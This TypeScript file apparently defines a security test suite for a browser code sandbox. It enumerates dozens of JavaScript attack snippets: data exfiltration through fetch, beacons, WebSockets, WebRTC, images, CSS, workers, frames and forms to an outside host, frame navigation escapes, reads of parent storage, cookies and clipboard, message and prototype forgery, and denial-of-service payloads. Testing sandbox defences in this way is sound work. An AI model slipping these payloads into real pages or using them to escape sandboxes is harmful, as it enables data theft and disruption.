/** The targets of the attacks. */
export interface Targets {
  /** Another server: by HTTP, WebSocket, and UDP. */
  http: string;
  ws: string;
  stun: string;
  /** The studio's own server. */
  studio: string;
}

/** Code that tries something and whose value is the outcome; `OUT` means that it worked. */
interface Attack {
  name: string;
  code: string;
}

/** Gives a channel without an immediate response time to be used. */
const WAIT = 'await new Promise((resolve) => setTimeout(resolve, 80));';

const attempt = (name: string, body: string): Attack => ({
  name,
  code: `try { ${body}; ${WAIT} 'tried' } catch (error) { 'blocked: ' + error?.name }`,
});

/** Adds markup for which the browser itself would load something. */
const markup = (name: string, html: string): Attack =>
  attempt(name, `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`);

/** Adds an element with properties to the document's head or body. */
const element = (name: string, tag: string, properties: Record<string, string>): Attack =>
  attempt(name, `document.head.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}))`);

const inWorker = (source: string): string =>
  `const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}]))); await new Promise((resolve) => { worker.onmessage = worker.onerror = resolve; setTimeout(resolve, 300); }); worker.terminate()`;

/** Every way out of a page. */
export function exfiltrations({ http, ws, stun, studio }: Targets): Attack[] {
  return [
    attempt('fetch', `await fetch('${http}/fetch'); 'OUT'`),
    attempt('fetch without CORS', `await fetch('${http}/no-cors', { mode: 'no-cors' })`),
    attempt('fetch, kept alive', `await fetch('${http}/keepalive', { keepalive: true, method: 'POST', body: 'x' })`),
    attempt('fetch of the studio', `await fetch('${studio}/api/models', { mode: 'no-cors' })`),
    attempt('fetch later', `fetchLater('${http}/later', { activateAfter: 0 })`),
    attempt('XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', '${http}/xhr'); x.send()`),
    attempt(
      'XMLHttpRequest that blocks',
      `const x = new XMLHttpRequest(); x.open('GET', '${http}/xhr', false); x.send()`,
    ),
    attempt('beacon', `navigator.sendBeacon('${http}/beacon', 'x')`),
    attempt('WebSocket', `new WebSocket('${ws}/socket')`),
    attempt('WebSocketStream', `new WebSocketStream('${ws}/stream')`),
    attempt('EventSource', `new EventSource('${http}/events')`),
    attempt('WebTransport', `new WebTransport('${http.replace('http:', 'https:')}/transport')`),
    attempt(
      'WebRTC',
      `const c = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((resolve) => setTimeout(resolve, 200))`,
    ),
    attempt(
      'WebRTC of an empty frame',
      `const f = document.createElement('iframe'); document.body.append(f); const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((resolve) => setTimeout(resolve, 200))`,
    ),
    attempt('image', `new Image().src = '${http}/image'`),
    markup('image with sources', `<img srcset="${http}/a 1x, ${http}/b 2x">`),
    markup('picture', `<picture><source srcset="${http}/picture"><img></picture>`),
    markup('image of SVG', `<svg><image href="${http}/svg-image"></image></svg>`),
    markup('use of SVG', `<svg><use href="${http}/use.svg#a"></use></svg>`),
    markup('filter of SVG', `<svg><filter><feImage href="${http}/fe"></feImage></filter></svg>`),
    markup('video', `<video autoplay src="${http}/video" poster="${http}/poster"></video>`),
    markup('audio', `<audio autoplay src="${http}/audio"></audio>`),
    markup('track', `<video><track default src="${http}/track"></video>`),
    markup('picture of a button', `<input type="image" src="${http}/button">`),
    markup('old background', `<table background="${http}/table"><tr><td>x</td></tr></table>`),
    markup('style', `<div style="background:url(${http}/background)">x</div>`),
    markup('cursor', `<div style="cursor:url(${http}/cursor), auto">x</div>`),
    markup('mask', `<div style="mask:url(${http}/mask.svg#m);width:9px;height:9px">x</div>`),
    markup('import of styles', `<style>@import url('${http}/import.css');</style>`),
    markup('font', `<style>@font-face{font-family:f;src:url('${http}/font')}</style><p style="font-family:f">x</p>`),
    attempt('FontFace', `await new FontFace('g', 'url(${http}/face)').load()`),
    element('stylesheet', 'link', { rel: 'stylesheet', href: `${http}/sheet.css` }),
    element('preload', 'link', { rel: 'preload', as: 'fetch', href: `${http}/preload` }),
    element('module preload', 'link', { rel: 'modulepreload', href: `${http}/module.js` }),
    element('prefetch', 'link', { rel: 'prefetch', href: `${http}/prefetch` }),
    element('prerender', 'link', { rel: 'prerender', href: `${http}/prerender` }),
    element('preconnect', 'link', { rel: 'preconnect', href: http }),
    element('DNS prefetch', 'link', { rel: 'dns-prefetch', href: '//prefetched.example' }),
    element('icon', 'link', { rel: 'icon', href: `${http}/icon` }),
    element('manifest', 'link', { rel: 'manifest', href: `${http}/manifest` }),
    element('speculation', 'script', {
      type: 'speculationrules',
      textContent: JSON.stringify({ prefetch: [{ urls: [`${http}/rule`] }], prerender: [{ urls: [`${http}/rule2`] }] }),
    }),
    element('import map', 'script', { type: 'importmap', textContent: `{"imports":{"out":"${http}/mapped.js"}}` }),
    attempt('import by map', `await import('out')`),
    element('script', 'script', { src: `${http}/script.js` }),
    element('module', 'script', { type: 'module', src: `${http}/module.mjs` }),
    attempt('import', `await import('${http}/imported.js')`),
    attempt('import of the studio', `await import('${studio}/_next/static/x.js')`),
    attempt('worker by address', `new Worker('${http}/worker.js')`),
    attempt(
      'worker that fetches',
      inWorker(`fetch('${http}/worker-fetch').then(() => postMessage('OUT'), () => postMessage(0))`),
    ),
    attempt('worker that imports', inWorker(`try { importScripts('${http}/worker.js') } catch {} postMessage(0)`)),
    attempt('worker with a socket', inWorker(`new WebSocket('${ws}/worker'); setTimeout(() => postMessage(0), 50)`)),
    attempt(
      'worker in a worker',
      inWorker(
        `new Worker(URL.createObjectURL(new Blob(["fetch('${http}/nested')"]))); setTimeout(() => postMessage(0), 80)`,
      ),
    ),
    attempt('shared worker', `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${http}/shared')"])))`),
    attempt('service worker', `await navigator.serviceWorker.register('${http}/service.js')`),
    attempt('worklet', `await CSS.paintWorklet.addModule('${http}/paint.js')`),
    attempt('audio worklet', `await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('${http}/audio.js')`),
    markup('frame', `<iframe src="${http}/frame"></iframe>`),
    markup('frame with markup', `<iframe srcdoc="<img src='${http}/srcdoc'>"></iframe>`),
    attempt(
      'empty frame',
      `const f = document.createElement('iframe'); document.body.append(f); await f.contentWindow.fetch('${http}/empty')`,
    ),
    attempt(
      'frame of a blob',
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='${http}/blob'>"], { type: 'text/html' })); document.body.append(f)`,
    ),
    markup('object', `<object data="${http}/object"></object>`),
    markup('embed', `<embed src="${http}/embed">`),
    attempt(
      'form',
      `document.body.insertAdjacentHTML('beforeend', '<form action="${http}/form"><input name=a></form>'); document.forms[0].submit()`,
    ),
    attempt(
      'form to a new window',
      `document.body.insertAdjacentHTML('beforeend', '<form action="${http}/form2" target=_blank method=post></form>'); document.forms[document.forms.length - 1].requestSubmit()`,
    ),
    attempt(
      'link with a ping',
      `document.body.insertAdjacentHTML('beforeend', '<a id=ping href="#x" ping="${http}/ping">x</a>'); document.getElementById('ping').click()`,
    ),
    attempt('document written', `document.write('<img src="${http}/written">')`),
    attempt(
      'policy with a report',
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src none; report-uri ${http}/report">'); new Image().src = 'https://x.example'`,
    ),
    attempt(
      'styles from script',
      `const s = new CSSStyleSheet(); s.replaceSync("body{background:url(${http}/constructed)}"); document.adoptedStyleSheets = [s]`,
    ),
    attempt(
      'text of a picture with a reference',
      `const b = URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}/inner"/></svg>'], { type: 'image/svg+xml' })); new Image().src = b`,
    ),
  ];
}

/** Ways to get out by navigating the frame, or the studio. Most of them end the session. */
export function navigations({ http, studio }: Targets): Attack[] {
  return [
    attempt('location', `location = '${http}/location'`),
    attempt('location.replace', `location.replace('${http}/replace')`),
    attempt(
      'refresh',
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=${http}/refresh">'); await new Promise((resolve) => setTimeout(resolve, 200))`,
    ),
    attempt(
      'click on a link',
      `const a = document.createElement('a'); a.href = '${http}/link'; document.body.append(a); a.click()`,
    ),
    attempt(
      'link to a new window',
      `const a = document.createElement('a'); a.href = '${http}/blank'; a.target = '_blank'; document.body.append(a); a.click()`,
    ),
    attempt('window.open', `if (window.open('${http}/open')) 'OUT'`),
    attempt('the studio’s location', `top.location = '${http}/top'`),
    attempt('the parent’s location', `parent.location.href = '${http}/parent'`),
    attempt('location of the studio', `location = '${studio}/'`),
    attempt('location of a script', `location = "javascript:fetch('${http}/javascript')"`),
    attempt('location of data', `location = "data:text/html,<img src='${http}/data'>"`),
    attempt(
      'location of a blob',
      `location = URL.createObjectURL(new Blob(["<script>fetch('${http}/blob')</" + 'script>'], { type: 'text/html' }))`,
    ),
    attempt(
      'download',
      `const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; document.body.append(a); a.click()`,
    ),
    attempt('the page before', `history.back()`),
    attempt('navigation API', `await navigation.navigate('${http}/navigation').committed`),
  ];
}

/** Reading the studio's data, and acting on its screen. The value says what was found. */
export const intrusions: Attack[] = [
  ...[
    'parent.document.body',
    'top.document.title',
    'frameElement.ownerDocument',
    'parent.localStorage',
    'parent.fetch',
    'parent.indexedDB',
    'top.location.href',
    'opener.document',
    'localStorage.length + "OUT"',
    'sessionStorage.length + "OUT"',
    'document.cookie + "OUT"',
    'navigator.locks.query().then(({ held }) => { if (held.length > 0) return "OUT" })',
    'navigator.storage.getDirectory().then(() => "OUT")',
    'caches.keys().then(() => "OUT")',
    'cookieStore.getAll().then(() => "OUT")',
    'new Promise((resolve, reject) => { const r = indexedDB.open("roundtrip-studio"); r.onsuccess = () => resolve("OUT"); r.onerror = reject; })',
    'navigator.clipboard.readText().then(() => "OUT")',
    'navigator.clipboard.writeText("x").then(() => "OUT")',
    'Notification.requestPermission().then((answer) => { if (answer === "granted") return "OUT" })',
    'navigator.mediaDevices.getUserMedia({ audio: true }).then(() => "OUT")',
    'navigator.geolocation.getCurrentPosition(() => {})',
    'document.documentElement.requestFullscreen().then(() => "OUT")',
    'document.documentElement.requestPointerLock().then(() => "OUT")',
    'showOpenFilePicker().then(() => "OUT")',
    'alert("x")',
    'if (confirm("x")) "OUT"',
    'if (prompt("x") !== null) "OUT"',
    'print()',
    'window.focus(); document.body.tabIndex = 0; document.body.focus()',
    'document.title = "Taken over"',
    'onbeforeunload = () => "stay"',
  ].map((code) => ({
    name: code,
    code: `try { await (async () => (0, eval)(${JSON.stringify(code)}))() } catch (error) { 'blocked: ' + error?.name }`,
  })),
];

/** Unexpected messages, and tampering with the page underneath the sandbox's own code. */
export const forgeries: Attack[] = [
  attempt(
    'outcome to the page',
    `parent.postMessage(JSON.stringify({ type: 'outcome', run: 1, value: { type: 'text', text: 'OUT' } }), '*')`,
  ),
  attempt(
    'a port of its own',
    `const { port1, port2 } = new MessageChannel(); parent.postMessage({ type: 'ready' }, '*', [port2])`,
  ),
  attempt('channel of the studio', `new BroadcastChannel('roundtrip-studio').postMessage('OUT')`),
  attempt(
    'port stolen',
    `MessagePort.prototype.postMessage = function () { globalThis.stolen = this }; console.log('x'); if (globalThis.stolen) 'OUT'`,
  ),
  attempt('JSON replaced', `JSON.stringify = () => '{"type":"outcome","run":1}'; JSON.parse = () => ({})`),
  attempt(
    'toJSON for all',
    `Object.defineProperty(Object.prototype, 'toJSON', { value() { return { type: 'outcome', run: 1, value: { type: 'text', text: 'x' } } }, configurable: true }); setTimeout(() => delete Object.prototype.toJSON, 20)`,
  ),
  attempt('call and apply', `Function.prototype.call = Function.prototype.apply = () => 'OUT'`),
  attempt(
    'then',
    `const { then } = Promise.prototype; Promise.prototype.then = function (...all) { return Reflect.apply(then, this, all) }`,
  ),
  attempt(
    'setters for all',
    `for (const key of ['type', 'text', 'value', 'run']) Object.defineProperty(Object.prototype, key, { set() {}, get() { return 'OUT' }, configurable: true }); setTimeout(() => { for (const key of ['type', 'text', 'value', 'run']) delete Object.prototype[key] }, 20)`,
  ),
  attempt('console replaced', `console.log = () => 'OUT'`),
];

/** Exhausting resources: time, memory, messages. Each ends with its session or by itself. */
export const denials: { name: string; code: string; timeout: number; stallMaxMs?: number }[] = [
  { name: 'a loop without end', code: 'for (;;);', timeout: 1 },
  { name: 'a promise that is never settled', code: 'await new Promise(() => {})', timeout: 1 },
  {
    name: 'promises without end',
    code: '(function next() { Promise.resolve().then(next) })(); await new Promise(() => {})',
    timeout: 1,
  },
  { name: 'a pattern without end', code: '/^(a+)+$/.test("a".repeat(40) + "b")', timeout: 1 },
  { name: 'recursion', code: '(function f() { f() })()', timeout: 2 },
  { name: 'messages without end', code: 'for (;;) parent.postMessage("x".repeat(1000), "*")', timeout: 2 },
  {
    name: 'large messages',
    code: 'const large = new Uint8Array(5e7); for (let i = 0; i < 30; i++) parent.postMessage(large, "*")',
    timeout: 3,
    // The browser copies them, 1.5 GB in all, on the page's own thread before the page can refuse them.
    stallMaxMs: 3_000,
  },
  { name: 'output without end', code: 'for (;;) console.log("x".repeat(1000))', timeout: 1 },
  { name: 'output of 100 MB', code: 'console.log("x".repeat(1e8)); "x".repeat(1e8)', timeout: 5 },
  {
    name: 'errors without end',
    code: 'setInterval(() => { throw new Error("x") }, 0); await new Promise(() => {})',
    timeout: 1,
  },
  {
    name: 'timers without end',
    code: 'for (let i = 0; i < 1e5; i++) setInterval(() => {}, 0); await new Promise(() => {})',
    timeout: 1,
  },
  {
    name: 'a million elements',
    code: 'for (let i = 0; i < 1e6; i++) document.body.append(document.createElement("p")); document.body.offsetHeight',
    timeout: 2,
  },
  {
    name: 'workers without end',
    code: 'for (let i = 0; i < 60; i++) new Worker(URL.createObjectURL(new Blob(["for(;;);"]))); await new Promise(() => {})',
    timeout: 2,
  },
  { name: 'history without end', code: 'for (;;) history.replaceState(null, "", "#" + Math.random())', timeout: 1 },
  { name: 'reloads without end', code: 'for (;;) location.reload()', timeout: 1 },
  { name: 'dialogs without end', code: 'for (;;) alert("x")', timeout: 1 },
  {
    name: 'lists without end',
    code: 'const list = []; for (;;) list.push(new Array(1e4).fill(list.length))',
    timeout: 15,
  },
  {
    name: 'bytes without end',
    code: 'const list = []; for (let i = 0; i < 200; i++) list.push(new Uint8Array(2e7).fill(1)); list.length',
    timeout: 8,
  },
  {
    name: 'a canvas too large',
    code: 'const c = document.createElement("canvas"); c.width = c.height = 16000; c.getContext("2d").fillRect(0, 0, 16000, 16000); c',
    timeout: 5,
  },
  {
    name: 'a value without end',
    code: 'const deep = {}; let at = deep; for (let i = 0; i < 1e5; i++) at = at.next = {}; deep',
    timeout: 5,
  },
];
